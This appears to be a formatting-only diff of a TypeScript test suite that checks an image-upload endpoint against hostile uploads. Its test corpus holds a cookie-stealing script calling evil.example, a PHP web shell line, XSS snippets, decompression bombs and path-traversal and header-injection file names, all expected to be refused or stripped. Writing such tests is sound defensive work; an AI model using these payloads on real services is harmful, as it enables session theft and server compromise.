@@ -37,7 +37,9 @@ function pngChunk(type: string, data: Uint8Array): Uint8Array {
 }
 
 async function deflate(bytes: Uint8Array): Promise<Uint8Array> {
-  return new Uint8Array(await new Response(new Blob([bytes]).stream().pipeThrough(new CompressionStream("deflate"))).arrayBuffer());
+  return new Uint8Array(
+    await new Response(new Blob([bytes]).stream().pipeThrough(new CompressionStream("deflate"))).arrayBuffer(),
+  );
 }
 
 /** A 64×64 PNG whose image data inflates to 24 MB: the shape of a zlib decompression bomb. */
@@ -87,7 +89,31 @@ function webpVp8lHuge(): Uint8Array {
 
 /** A JPEG start-of-frame claiming `width` × `height` with no scan data. */
 const jpegClaiming = (width: number, height: number): Uint8Array =>
-  new Uint8Array([0xff, 0xd8, 0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1, 0xff, 0xd9]);
+  new Uint8Array([
+    0xff,
+    0xd8,
+    0xff,
+    0xc0,
+    0x00,
+    0x11,
+    0x08,
+    height >> 8,
+    height & 0xff,
+    width >> 8,
+    width & 0xff,
+    0x03,
+    1,
+    0x22,
+    0,
+    2,
+    0x11,
+    1,
+    3,
+    0x11,
+    1,
+    0xff,
+    0xd9,
+  ]);
 
 /** A JPEG with a comment (COM) segment inserted right after the start-of-image marker. */
 function jpegWithComment(jpeg: Uint8Array, comment: string): Uint8Array {
@@ -98,10 +124,18 @@ function jpegWithComment(jpeg: Uint8Array, comment: string): Uint8Array {
   return concat(jpeg.subarray(0, 2), segment, jpeg.subarray(2));
 }
 
-const ZIP = concat(text("PK\u0003\u0004"), new Uint8Array(26), text("evil.html<html><script>alert(document.cookie)</script></html>"), text("PK\u0005\u0006"), new Uint8Array(18));
+const ZIP = concat(
+  text("PK\u0003\u0004"),
+  new Uint8Array(26),
+  text("evil.html<html><script>alert(document.cookie)</script></html>"),
+  text("PK\u0005\u0006"),
+  new Uint8Array(18),
+);
 const HTML = text("<html><body><script>alert(document.cookie)</script></body></html>");
 const SCRIPT = text("\n/*\u0000*/;fetch('https://evil.example/?c='+document.cookie);//");
-const SVG = text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>');
+const SVG = text(
+  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>',
+);
 /** Strings that must never be found in what we keep. */
 const MARKERS = ["PK\u0003\u0004", "<html", "<script", "alert(", "document.cookie", "<?php", "secret-location", "tEXt"];
 
@@ -120,7 +154,11 @@ type Outcome =
   /** Refused with some 4xx, or stored clean: the decoder may or may not cope, both are safe. */
   | { refusedOrClean: true }
   /** Stored, cleanly re-encoded as this type. */
-  | { clean: "image/png" | "image/jpeg" | "image/webp"; payloadStripped?: boolean; originalName?: (name: string) => void };
+  | {
+      clean: "image/png" | "image/jpeg" | "image/webp";
+      payloadStripped?: boolean;
+      originalName?: (name: string) => void;
+    };
 
 type Case = { name: string; body: () => Promise<Body>; outcome: Outcome; only?: "assets" | "references" };
 
@@ -128,14 +166,20 @@ let png: Uint8Array;
 let jpeg: Uint8Array;
 let webp: Uint8Array;
 
-const single = (name: string, bytes: Uint8Array, type = "application/octet-stream"): Body => ({ kind: "multipart", files: [{ name, bytes, type }] });
+const single = (name: string, bytes: Uint8Array, type = "application/octet-stream"): Body => ({
+  kind: "multipart",
+  files: [{ name, bytes, type }],
+});
 
 const noControlOrBidi = (name: string) => {
   // eslint-disable-next-line no-control-regex
   expect(name).not.toMatch(/[\u0000-\u001f\u007f\u200e\u200f\u202a-\u202e\u2066-\u2069/\\]/);
   expect(name.length).toBeGreaterThan(0);
   expect(name.length).toBeLessThanOrEqual(200);
-  expect(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(name), "no lone surrogates").toBe(false);
+  expect(
+    /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(name),
+    "no lone surrogates",
+  ).toBe(false);
 };
 
 /**
@@ -144,14 +188,22 @@ const noControlOrBidi = (name: string) => {
  */
 function handWritten(fileName: string, bytes: Uint8Array): Body {
   const boundary = "----handwritten";
-  const head = text(`--${boundary}\r\nContent-Disposition: form-data; name="role"\r\n\r\ninput\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: image/png\r\n\r\n`);
-  return { kind: "raw", contentType: `multipart/form-data; boundary=${boundary}`, body: concat(head, bytes, text(`\r\n--${boundary}--\r\n`)) };
+  const head = text(
+    `--${boundary}\r\nContent-Disposition: form-data; name="role"\r\n\r\ninput\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: image/png\r\n\r\n`,
+  );
+  return {
+    kind: "raw",
+    contentType: `multipart/form-data; boundary=${boundary}`,
+    body: concat(head, bytes, text(`\r\n--${boundary}--\r\n`)),
+  };
 }
 
 /** 21 MB sent as a stream: no Content-Length, so only counting the bytes can stop it. */
 function chunkedOversize(): Body {
   const boundary = "----hostile";
-  const head = text(`--${boundary}\r\nContent-Disposition: form-data; name="role"\r\n\r\ninput\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.png"\r\nContent-Type: image/png\r\n\r\n`);
+  const head = text(
+    `--${boundary}\r\nContent-Disposition: form-data; name="role"\r\n\r\ninput\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.png"\r\nContent-Type: image/png\r\n\r\n`,
+  );
   const tail = text(`\r\n--${boundary}--\r\n`);
   const piece = new Uint8Array(1024 * 1024).fill(0x41);
   let sent = 0;
@@ -171,96 +223,399 @@ function chunkedOversize(): Body {
 
 const CORPUS: Case[] = [
   // Not images at all, whatever they claim.
-  { name: "SVG with a script", body: async () => single("vector.svg", SVG, "image/svg+xml"), outcome: { refused: 415 } },
+  {
+    name: "SVG with a script",
+    body: async () => single("vector.svg", SVG, "image/svg+xml"),
+    outcome: { refused: 415 },
+  },
   { name: "SVG renamed .png", body: async () => single("innocent.png", SVG, "image/png"), outcome: { refused: 415 } },
   { name: "HTML renamed .png", body: async () => single("page.png", HTML, "image/png"), outcome: { refused: 415 } },
-  { name: "plain text", body: async () => single("notes.txt", text("just some text, honestly"), "text/plain"), outcome: { refused: 415 } },
-  { name: "PDF", body: async () => single("doc.png", text("%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>endobj"), "image/png"), outcome: { refused: 415 } },
-  { name: "GIF magic", body: async () => single("anim.gif", concat(text("GIF89a"), new Uint8Array([16, 0, 16, 0, 0x80, 0, 0]), HTML), "image/gif"), outcome: { refused: 415 } },
-  { name: "BMP magic", body: async () => single("old.bmp", concat(text("BM"), new Uint8Array(52)), "image/bmp"), outcome: { refused: 415 } },
-  { name: "TIFF magic (little-endian)", body: async () => single("scan.tif", concat(text("II*\u0000"), new Uint8Array(40)), "image/tiff"), outcome: { refused: 415 } },
-  { name: "TIFF magic (big-endian)", body: async () => single("scan.tiff", concat(text("MM\u0000*"), new Uint8Array(40)), "image/tiff"), outcome: { refused: 415 } },
-  { name: "HEIC magic", body: async () => single("phone.heic", concat(new Uint8Array([0, 0, 0, 0x18]), text("ftypheic\u0000\u0000\u0000\u0000mif1heic"), new Uint8Array(64)), "image/heic"), outcome: { refused: 415 } },
-  { name: "AVIF magic", body: async () => single("new.avif", concat(new Uint8Array([0, 0, 0, 0x1c]), text("ftypavif\u0000\u0000\u0000\u0000avifmif1miaf"), new Uint8Array(64)), "image/avif"), outcome: { refused: 415 } },
-  { name: "ICO magic", body: async () => single("favicon.ico", concat(new Uint8Array([0, 0, 1, 0, 1, 0]), new Uint8Array(40)), "image/x-icon"), outcome: { refused: 415 } },
-  { name: "MP4 video", body: async () => single("clip.png", concat(new Uint8Array([0, 0, 0, 0x18]), text("ftypisom\u0000\u0000\u0002\u0000isomiso2"), new Uint8Array(64)), "image/png"), outcome: { refused: 415 } },
+  {
+    name: "plain text",
+    body: async () => single("notes.txt", text("just some text, honestly"), "text/plain"),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "PDF",
+    body: async () => single("doc.png", text("%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>endobj"), "image/png"),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "GIF magic",
+    body: async () =>
+      single("anim.gif", concat(text("GIF89a"), new Uint8Array([16, 0, 16, 0, 0x80, 0, 0]), HTML), "image/gif"),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "BMP magic",
+    body: async () => single("old.bmp", concat(text("BM"), new Uint8Array(52)), "image/bmp"),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "TIFF magic (little-endian)",
+    body: async () => single("scan.tif", concat(text("II*\u0000"), new Uint8Array(40)), "image/tiff"),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "TIFF magic (big-endian)",
+    body: async () => single("scan.tiff", concat(text("MM\u0000*"), new Uint8Array(40)), "image/tiff"),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "HEIC magic",
+    body: async () =>
+      single(
+        "phone.heic",
+        concat(new Uint8Array([0, 0, 0, 0x18]), text("ftypheic\u0000\u0000\u0000\u0000mif1heic"), new Uint8Array(64)),
+        "image/heic",
+      ),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "AVIF magic",
+    body: async () =>
+      single(
+        "new.avif",
+        concat(
+          new Uint8Array([0, 0, 0, 0x1c]),
+          text("ftypavif\u0000\u0000\u0000\u0000avifmif1miaf"),
+          new Uint8Array(64),
+        ),
+        "image/avif",
+      ),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "ICO magic",
+    body: async () =>
+      single("favicon.ico", concat(new Uint8Array([0, 0, 1, 0, 1, 0]), new Uint8Array(40)), "image/x-icon"),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "MP4 video",
+    body: async () =>
+      single(
+        "clip.png",
+        concat(new Uint8Array([0, 0, 0, 0x18]), text("ftypisom\u0000\u0000\u0002\u0000isomiso2"), new Uint8Array(64)),
+        "image/png",
+      ),
+    outcome: { refused: 415 },
+  },
 
   // Polyglots: a real image carrying something else.
-  { name: "PNG with a trailing ZIP", body: async () => single("poly.png", concat(png, ZIP), "image/png"), outcome: { clean: "image/png", payloadStripped: true } },
-  { name: "PNG with trailing HTML", body: async () => single("poly.png", concat(png, HTML), "image/png"), outcome: { clean: "image/png", payloadStripped: true } },
-  { name: "PNG with a trailing script", body: async () => single("poly.js.png", concat(png, SCRIPT), "image/png"), outcome: { clean: "image/png", payloadStripped: true } },
-  { name: "PNG with HTML in a tEXt chunk", body: async () => single("meta.png", await makePng(24, 24, (x, y) => [x * 10, y * 10, 0], [pngChunk("tEXt", concat(text("Comment\u0000"), HTML))]), "image/png"), outcome: { clean: "image/png", payloadStripped: true } },
-  { name: "JPEG with HTML in a comment segment", body: async () => single("comment.jpg", jpegWithComment(jpeg, "<html><script>alert(document.cookie)</script></html>"), "image/jpeg"), outcome: { clean: "image/jpeg", payloadStripped: true } },
-  { name: "JPEG with a trailing ZIP", body: async () => single("poly.jpg", concat(jpeg, ZIP), "image/jpeg"), outcome: { clean: "image/jpeg", payloadStripped: true } },
-  { name: "JPEG with PHP after the end marker", body: async () => single("shell.php.jpg", concat(jpeg, text("<?php system($_GET['c']); ?>")), "image/jpeg"), outcome: { clean: "image/jpeg", payloadStripped: true } },
-  { name: "WebP with trailing HTML", body: async () => single("poly.webp", concat(webp, HTML), "image/webp"), outcome: { clean: "image/webp", payloadStripped: true } },
+  {
+    name: "PNG with a trailing ZIP",
+    body: async () => single("poly.png", concat(png, ZIP), "image/png"),
+    outcome: { clean: "image/png", payloadStripped: true },
+  },
+  {
+    name: "PNG with trailing HTML",
+    body: async () => single("poly.png", concat(png, HTML), "image/png"),
+    outcome: { clean: "image/png", payloadStripped: true },
+  },
+  {
+    name: "PNG with a trailing script",
+    body: async () => single("poly.js.png", concat(png, SCRIPT), "image/png"),
+    outcome: { clean: "image/png", payloadStripped: true },
+  },
+  {
+    name: "PNG with HTML in a tEXt chunk",
+    body: async () =>
+      single(
+        "meta.png",
+        await makePng(24, 24, (x, y) => [x * 10, y * 10, 0], [pngChunk("tEXt", concat(text("Comment\u0000"), HTML))]),
+        "image/png",
+      ),
+    outcome: { clean: "image/png", payloadStripped: true },
+  },
+  {
+    name: "JPEG with HTML in a comment segment",
+    body: async () =>
+      single(
+        "comment.jpg",
+        jpegWithComment(jpeg, "<html><script>alert(document.cookie)</script></html>"),
+        "image/jpeg",
+      ),
+    outcome: { clean: "image/jpeg", payloadStripped: true },
+  },
+  {
+    name: "JPEG with a trailing ZIP",
+    body: async () => single("poly.jpg", concat(jpeg, ZIP), "image/jpeg"),
+    outcome: { clean: "image/jpeg", payloadStripped: true },
+  },
+  {
+    name: "JPEG with PHP after the end marker",
+    body: async () => single("shell.php.jpg", concat(jpeg, text("<?php system($_GET['c']); ?>")), "image/jpeg"),
+    outcome: { clean: "image/jpeg", payloadStripped: true },
+  },
+  {
+    name: "WebP with trailing HTML",
+    body: async () => single("poly.webp", concat(webp, HTML), "image/webp"),
+    outcome: { clean: "image/webp", payloadStripped: true },
+  },
 
   // Decompression bombs and impossible sizes.
-  { name: "PNG header claiming 30000×30000", body: async () => single("huge.png", hugePngHeader(30_000, 30_000), "image/png"), outcome: { refused: 413 } },
-  { name: "PNG header claiming 12001×1 (one side too long)", body: async () => single("wide.png", hugePngHeader(12_001, 1), "image/png"), outcome: { refused: 413 } },
-  { name: "PNG header claiming 8000×6000 (48 MP)", body: async () => single("big.png", hugePngHeader(8_000, 6_000), "image/png"), outcome: { refused: 413 } },
-  { name: "PNG header claiming 0×0", body: async () => single("zero.png", hugePngHeader(0, 0), "image/png"), outcome: { refused: 400 } },
-  { name: "PNG whose data inflates to 24 MB", body: async () => single("bomb.png", await pngInflatingTo(24 * 1024 * 1024), "image/png"), outcome: { refusedOrClean: true } },
-  { name: "WebP VP8X canvas of 16777216×16777216", body: async () => single("bomb.webp", webpVp8xBomb(), "image/webp"), outcome: { refused: 413 } },
-  { name: "WebP VP8 frame claiming 16383×16383", body: async () => single("huge.webp", webpVp8Huge(), "image/webp"), outcome: { refused: 413 } },
-  { name: "WebP VP8L claiming 16384×16384", body: async () => single("huge-lossless.webp", webpVp8lHuge(), "image/webp"), outcome: { refused: 413 } },
-  { name: "JPEG frame claiming 65535×65535", body: async () => single("huge.jpg", jpegClaiming(65_535, 65_535), "image/jpeg"), outcome: { refused: 413 } },
-  { name: "JPEG frame claiming 0×0", body: async () => single("zero.jpg", jpegClaiming(0, 0), "image/jpeg"), outcome: { refused: 400 } },
+  {
+    name: "PNG header claiming 30000×30000",
+    body: async () => single("huge.png", hugePngHeader(30_000, 30_000), "image/png"),
+    outcome: { refused: 413 },
+  },
+  {
+    name: "PNG header claiming 12001×1 (one side too long)",
+    body: async () => single("wide.png", hugePngHeader(12_001, 1), "image/png"),
+    outcome: { refused: 413 },
+  },
+  {
+    name: "PNG header claiming 8000×6000 (48 MP)",
+    body: async () => single("big.png", hugePngHeader(8_000, 6_000), "image/png"),
+    outcome: { refused: 413 },
+  },
+  {
+    name: "PNG header claiming 0×0",
+    body: async () => single("zero.png", hugePngHeader(0, 0), "image/png"),
+    outcome: { refused: 400 },
+  },
+  {
+    name: "PNG whose data inflates to 24 MB",
+    body: async () => single("bomb.png", await pngInflatingTo(24 * 1024 * 1024), "image/png"),
+    outcome: { refusedOrClean: true },
+  },
+  {
+    name: "WebP VP8X canvas of 16777216×16777216",
+    body: async () => single("bomb.webp", webpVp8xBomb(), "image/webp"),
+    outcome: { refused: 413 },
+  },
+  {
+    name: "WebP VP8 frame claiming 16383×16383",
+    body: async () => single("huge.webp", webpVp8Huge(), "image/webp"),
+    outcome: { refused: 413 },
+  },
+  {
+    name: "WebP VP8L claiming 16384×16384",
+    body: async () => single("huge-lossless.webp", webpVp8lHuge(), "image/webp"),
+    outcome: { refused: 413 },
+  },
+  {
+    name: "JPEG frame claiming 65535×65535",
+    body: async () => single("huge.jpg", jpegClaiming(65_535, 65_535), "image/jpeg"),
+    outcome: { refused: 413 },
+  },
+  {
+    name: "JPEG frame claiming 0×0",
+    body: async () => single("zero.jpg", jpegClaiming(0, 0), "image/jpeg"),
+    outcome: { refused: 400 },
+  },
 
   // Broken files.
-  { name: "zero bytes", body: async () => single("empty.png", new Uint8Array(), "image/png"), outcome: { refused: 400 } },
-  { name: "PNG cut inside its header", body: async () => single("cut.png", png.subarray(0, 20), "image/png"), outcome: { refused: 415 } },
-  { name: "PNG cut after its header", body: async () => single("cut.png", png.subarray(0, 40), "image/png"), outcome: { refused: 400 } },
-  { name: "PNG without its end", body: async () => single("cut.png", png.subarray(0, png.length - 12), "image/png"), outcome: { refusedOrClean: true } },
-  { name: "JPEG cut in half", body: async () => single("cut.jpg", jpeg.subarray(0, Math.floor(jpeg.length / 2)), "image/jpeg"), outcome: { refusedOrClean: true } },
-  { name: "JPEG of a start marker only", body: async () => single("soi.jpg", new Uint8Array([0xff, 0xd8, 0xff]), "image/jpeg"), outcome: { refused: 415 } },
-  { name: "WebP cut to 40 bytes", body: async () => single("cut.webp", webp.subarray(0, 40), "image/webp"), outcome: { refusedOrClean: true } },
-  { name: "RIFF WAVE renamed .webp", body: async () => single("sound.webp", riff("WAVE", new Uint8Array(64)), "image/webp"), outcome: { refused: 415 } },
+  {
+    name: "zero bytes",
+    body: async () => single("empty.png", new Uint8Array(), "image/png"),
+    outcome: { refused: 400 },
+  },
+  {
+    name: "PNG cut inside its header",
+    body: async () => single("cut.png", png.subarray(0, 20), "image/png"),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "PNG cut after its header",
+    body: async () => single("cut.png", png.subarray(0, 40), "image/png"),
+    outcome: { refused: 400 },
+  },
+  {
+    name: "PNG without its end",
+    body: async () => single("cut.png", png.subarray(0, png.length - 12), "image/png"),
+    outcome: { refusedOrClean: true },
+  },
+  {
+    name: "JPEG cut in half",
+    body: async () => single("cut.jpg", jpeg.subarray(0, Math.floor(jpeg.length / 2)), "image/jpeg"),
+    outcome: { refusedOrClean: true },
+  },
+  {
+    name: "JPEG of a start marker only",
+    body: async () => single("soi.jpg", new Uint8Array([0xff, 0xd8, 0xff]), "image/jpeg"),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "WebP cut to 40 bytes",
+    body: async () => single("cut.webp", webp.subarray(0, 40), "image/webp"),
+    outcome: { refusedOrClean: true },
+  },
+  {
+    name: "RIFF WAVE renamed .webp",
+    body: async () => single("sound.webp", riff("WAVE", new Uint8Array(64)), "image/webp"),
+    outcome: { refused: 415 },
+  },
 
   // Too big.
-  { name: "21 MB with a Content-Length", body: async () => single("big.png", concat(png, new Uint8Array(21 * 1024 * 1024)), "image/png"), outcome: { refused: 413 } },
+  {
+    name: "21 MB with a Content-Length",
+    body: async () => single("big.png", concat(png, new Uint8Array(21 * 1024 * 1024)), "image/png"),
+    outcome: { refused: 413 },
+  },
   { name: "21 MB chunked, no Content-Length", body: async () => chunkedOversize(), outcome: { refused: 413 } },
 
   // Valid images in disguise: the bytes decide.
-  { name: "PNG sent as image/jpeg named .jpg", body: async () => single("photo.jpg", png, "image/jpeg"), outcome: { clean: "image/png" } },
-  { name: "JPEG sent as text/html named .html", body: async () => single("page.html", jpeg, "text/html"), outcome: { clean: "image/jpeg" } },
-  { name: "WebP sent as image/svg+xml", body: async () => single("x.svg", webp, "image/svg+xml"), outcome: { clean: "image/webp" } },
+  {
+    name: "PNG sent as image/jpeg named .jpg",
+    body: async () => single("photo.jpg", png, "image/jpeg"),
+    outcome: { clean: "image/png" },
+  },
+  {
+    name: "JPEG sent as text/html named .html",
+    body: async () => single("page.html", jpeg, "text/html"),
+    outcome: { clean: "image/jpeg" },
+  },
+  {
+    name: "WebP sent as image/svg+xml",
+    body: async () => single("x.svg", webp, "image/svg+xml"),
+    outcome: { clean: "image/webp" },
+  },
 
   // Hostile file names on a valid image.
-  { name: "path traversal name", body: async () => single("../../../../etc/passwd.png", png, "image/png"), outcome: { clean: "image/png", originalName: (name) => expect(name).toBe("passwd.png") } },
-  { name: "Windows path name", body: async () => single("C:\\Windows\\System32\\evil.png", png, "image/png"), outcome: { clean: "image/png", originalName: (name) => expect(name).toBe("evil.png") } },
+  {
+    name: "path traversal name",
+    body: async () => single("../../../../etc/passwd.png", png, "image/png"),
+    outcome: { clean: "image/png", originalName: (name) => expect(name).toBe("passwd.png") },
+  },
+  {
+    name: "Windows path name",
+    body: async () => single("C:\\Windows\\System32\\evil.png", png, "image/png"),
+    outcome: { clean: "image/png", originalName: (name) => expect(name).toBe("evil.png") },
+  },
   // The runtime's multipart parser will not read a part header with a NUL in it.
   { name: "NUL in the name", body: async () => handWritten("evil.png\u0000.html", png), outcome: { refused: 400 } },
-  { name: "control characters and an escaped quote in the name", body: async () => handWritten('a\\"b\u0007\u001b[31m.png', png), outcome: { clean: "image/png", originalName: noControlOrBidi } },
-  { name: "RTL override in the name", body: async () => single("holiday\u202Egnp.exe", png, "image/png"), outcome: { clean: "image/png", originalName: (name) => {
-    noControlOrBidi(name);
-    expect(name).toBe("holidaygnp.exe");
-  } } },
-  { name: "10 kB name", body: async () => single(`${"a".repeat(10_240)}.png`, png, "image/png"), outcome: { clean: "image/png", originalName: noControlOrBidi } },
-  { name: "emoji name cut mid-character", body: async () => single(`a${"🐱".repeat(300)}.png`, png, "image/png"), outcome: { clean: "image/png", originalName: (name) => {
-    noControlOrBidi(name);
-    expect(name.startsWith("a🐱🐱")).toBe(true);
-  } } },
+  {
+    name: "control characters and an escaped quote in the name",
+    body: async () => handWritten('a\\"b\u0007\u001b[31m.png', png),
+    outcome: { clean: "image/png", originalName: noControlOrBidi },
+  },
+  {
+    name: "RTL override in the name",
+    body: async () => single("holiday\u202Egnp.exe", png, "image/png"),
+    outcome: {
+      clean: "image/png",
+      originalName: (name) => {
+        noControlOrBidi(name);
+        expect(name).toBe("holidaygnp.exe");
+      },
+    },
+  },
+  {
+    name: "10 kB name",
+    body: async () => single(`${"a".repeat(10_240)}.png`, png, "image/png"),
+    outcome: { clean: "image/png", originalName: noControlOrBidi },
+  },
+  {
+    name: "emoji name cut mid-character",
+    body: async () => single(`a${"🐱".repeat(300)}.png`, png, "image/png"),
+    outcome: {
+      clean: "image/png",
+      originalName: (name) => {
+        noControlOrBidi(name);
+        expect(name.startsWith("a🐱🐱")).toBe(true);
+      },
+    },
+  },
   // What a browser sends for `x".png⏎Content-Type: text/html⏎⏎<script>…`: quotes and line breaks escaped.
-  { name: "header injection in the name", body: async () => handWritten("x%22.png%0D%0AContent-Type: text%2Fhtml%0D%0A%0D%0A<script>alert(1)<%2Fscript>", png), outcome: { clean: "image/png", originalName: (name) => {
-    noControlOrBidi(name);
-    expect(name).not.toMatch(/[<>"]/);
-  } } },
-  { name: "a name of dots", body: async () => single("..", png, "image/png"), outcome: { clean: "image/png", originalName: noControlOrBidi } },
+  {
+    name: "header injection in the name",
+    body: async () =>
+      handWritten("x%22.png%0D%0AContent-Type: text%2Fhtml%0D%0A%0D%0A<script>alert(1)<%2Fscript>", png),
+    outcome: {
+      clean: "image/png",
+      originalName: (name) => {
+        noControlOrBidi(name);
+        expect(name).not.toMatch(/[<>"]/);
+      },
+    },
+  },
+  {
+    name: "a name of dots",
+    body: async () => single("..", png, "image/png"),
+    outcome: { clean: "image/png", originalName: noControlOrBidi },
+  },
 
   // Malformed requests.
-  { name: "multipart without a file field", body: async () => ({ kind: "multipart", files: [], fields: { note: "no file here" } }), outcome: { refused: 400 } },
-  { name: "file field sent as plain text", body: async () => ({ kind: "multipart", files: [], fields: { file: "iVBORw0KGgo=" } }), outcome: { refused: 400 } },
-  { name: "file under another field name", body: async () => ({ kind: "multipart", files: [{ field: "image", name: "a.png", bytes: png }] }), outcome: { refused: 400 } },
-  { name: "JSON body", body: async () => ({ kind: "raw", contentType: "application/json", body: JSON.stringify({ file: "iVBORw0KGgo=" }) }), outcome: { refused: 415 } },
-  { name: "raw PNG bytes, no multipart", body: async () => ({ kind: "raw", contentType: "image/png", body: png }), outcome: { refused: 415 } },
-  { name: "form-urlencoded body", body: async () => ({ kind: "raw", contentType: "application/x-www-form-urlencoded", body: "file=abc&role=input" }), outcome: { refused: 415 } },
-  { name: "no Content-Type at all", body: async () => ({ kind: "raw", contentType: null, body: png }), outcome: { refused: 415 } },
-  { name: "multipart with a broken boundary", body: async () => ({ kind: "raw", contentType: "multipart/form-data; boundary=zzz", body: "--aaa\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\n\r\n\u0089PNG\r\n--aaa" }), outcome: { refused: 400 } },
-  { name: "multipart without a boundary", body: async () => ({ kind: "raw", contentType: "multipart/form-data", body: png }), outcome: { refused: 400 } },
-  { name: "eleven files at once", only: "references", body: async () => ({ kind: "multipart", files: Array.from({ length: 11 }, (_, i) => ({ name: `f${i}.png`, bytes: png })) }), outcome: { refused: 413 } },
-  { name: "a mask role that does not exist", only: "assets", body: async () => ({ kind: "multipart", files: [{ name: "a.png", bytes: png }], fields: { role: "output" } }), outcome: { refused: 400 } },
-  { name: "a role full of markup", only: "assets", body: async () => ({ kind: "multipart", files: [{ name: "a.png", bytes: png }], fields: { role: "<script>alert(1)</script>" } }), outcome: { refused: 400 } },
+  {
+    name: "multipart without a file field",
+    body: async () => ({ kind: "multipart", files: [], fields: { note: "no file here" } }),
+    outcome: { refused: 400 },
+  },
+  {
+    name: "file field sent as plain text",
+    body: async () => ({ kind: "multipart", files: [], fields: { file: "iVBORw0KGgo=" } }),
+    outcome: { refused: 400 },
+  },
+  {
+    name: "file under another field name",
+    body: async () => ({ kind: "multipart", files: [{ field: "image", name: "a.png", bytes: png }] }),
+    outcome: { refused: 400 },
+  },
+  {
+    name: "JSON body",
+    body: async () => ({
+      kind: "raw",
+      contentType: "application/json",
+      body: JSON.stringify({ file: "iVBORw0KGgo=" }),
+    }),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "raw PNG bytes, no multipart",
+    body: async () => ({ kind: "raw", contentType: "image/png", body: png }),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "form-urlencoded body",
+    body: async () => ({ kind: "raw", contentType: "application/x-www-form-urlencoded", body: "file=abc&role=input" }),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "no Content-Type at all",
+    body: async () => ({ kind: "raw", contentType: null, body: png }),
+    outcome: { refused: 415 },
+  },
+  {
+    name: "multipart with a broken boundary",
+    body: async () => ({
+      kind: "raw",
+      contentType: "multipart/form-data; boundary=zzz",
+      body: '--aaa\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n\u0089PNG\r\n--aaa',
+    }),
+    outcome: { refused: 400 },
+  },
+  {
+    name: "multipart without a boundary",
+    body: async () => ({ kind: "raw", contentType: "multipart/form-data", body: png }),
+    outcome: { refused: 400 },
+  },
+  {
+    name: "eleven files at once",
+    only: "references",
+    body: async () => ({
+      kind: "multipart",
+      files: Array.from({ length: 11 }, (_, i) => ({ name: `f${i}.png`, bytes: png })),
+    }),
+    outcome: { refused: 413 },
+  },
+  {
+    name: "a mask role that does not exist",
+    only: "assets",
+    body: async () => ({ kind: "multipart", files: [{ name: "a.png", bytes: png }], fields: { role: "output" } }),
+    outcome: { refused: 400 },
+  },
+  {
+    name: "a role full of markup",
+    only: "assets",
+    body: async () => ({
+      kind: "multipart",
+      files: [{ name: "a.png", bytes: png }],
+      fields: { role: "<script>alert(1)</script>" },
+    }),
+    outcome: { refused: 400 },
+  },
 ];
 
 // ---------------------------------------------------------------------------------------------
@@ -280,14 +635,20 @@ async function send(user: TestUser, endpoint: (typeof ENDPOINTS)[number], body: 
   }
   const form = new FormData();
   for (const [name, value] of Object.entries({ ...endpoint.fields, ...body.fields })) form.set(name, value);
-  for (const file of body.files) form.append(file.field ?? "file", new File([file.bytes], file.name, { type: file.type ?? "application/octet-stream" }));
+  for (const file of body.files)
+    form.append(
+      file.field ?? "file",
+      new File([file.bytes], file.name, { type: file.type ?? "application/octet-stream" }),
+    );
   return SELF.fetch(`${ORIGIN}${endpoint.path}`, { method: "POST", headers, body: form });
 }
 
 /** The bytes end where the format says the image ends: nothing rides along. */
 function expectNothingTrailing(bytes: Uint8Array, mimeType: string): void {
   if (mimeType === "image/png") {
-    expect([...bytes.subarray(bytes.length - 12)]).toEqual([0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82]);
+    expect([...bytes.subarray(bytes.length - 12)]).toEqual([
+      0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
+    ]);
   } else if (mimeType === "image/jpeg") {
     expect([...bytes.subarray(bytes.length - 2)]).toEqual([0xff, 0xd9]);
   } else {
@@ -308,8 +669,16 @@ async function expectServedSafely(user: TestUser, url: string, mimeType: string)
 
 beforeAll(async () => {
   png = await makePng(40, 30, (x, y) => [x * 6, y * 8, 200]);
-  jpeg = new Uint8Array(await (await env.IMAGES.input(new Blob([png]).stream()).output({ format: "image/jpeg", quality: 85 })).response().arrayBuffer());
-  webp = new Uint8Array(await (await env.IMAGES.input(new Blob([png]).stream()).output({ format: "image/webp", quality: 85 })).response().arrayBuffer());
+  jpeg = new Uint8Array(
+    await (await env.IMAGES.input(new Blob([png]).stream()).output({ format: "image/jpeg", quality: 85 }))
+      .response()
+      .arrayBuffer(),
+  );
+  webp = new Uint8Array(
+    await (await env.IMAGES.input(new Blob([png]).stream()).output({ format: "image/webp", quality: 85 }))
+      .response()
+      .arrayBuffer(),
+  );
